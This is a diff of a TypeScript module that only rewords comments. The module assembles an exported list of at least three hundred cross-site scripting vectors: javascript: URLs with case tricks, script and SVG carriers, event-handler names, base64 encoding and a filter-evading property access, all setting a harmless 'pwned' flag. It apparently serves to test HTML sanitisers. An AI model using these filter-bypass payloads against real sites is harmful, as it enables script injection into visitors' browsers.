@@ -1,4 +1,4 @@
-/** What every vector tries to run. No quotation mark in it, so that it fits in any attribute. */
+/** The script every vector tries to run. It has no quotation mark, so that it fits in any attribute. */
 const run = "globalThis.pwned=1";
 /** The same as a call without parentheses, letters or spaces that filters look for. */
 const hidden = "self[`pwned`]=1";
@@ -8,7 +8,7 @@ const script = `<script>${run}</script>`;
 const base64 = Buffer.from(`${script}`).toString("base64");
 const foreign = "https://ailleurs.example";
 
-/** Every way of starting a script from an address. */
+/** All ways to start a script from an address. */
 const addresses = [
   `javascript:${run}`,
   `JaVaScRiPt:${run}`,
@@ -53,7 +53,7 @@ const carriers = [
   (address: string) => `<svg><a xlink:href="${address}"><text y="9">x</text></a></svg>`,
 ];
 
-/** Events that come without anybody doing anything, and those of a pointer or a keyboard. */
+/** Events that happen without any action, and those of a pointer or a keyboard. */
 const events = [
   "abort afterprint animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut",
   "beforeinput beforematch beforepaste beforeprint beforetoggle beforeunload begin blur bounce cancel canplay",
@@ -224,7 +224,7 @@ const written = [
   `\`\`\`html\n<script>${run}</script>\n\`\`\``,
 ];
 
-/** At least three hundred ways of running a script in a page, gathered from how browsers read HTML (OWASP's families). */
+/** Returns at least three hundred ways to run a script in a page, based on how browsers read HTML (OWASP's families). */
 export const xssVectors: readonly string[] = [
   ...new Set(written),
   ...addresses.flatMap((address) => carriers.map((carry) => carry(address))),
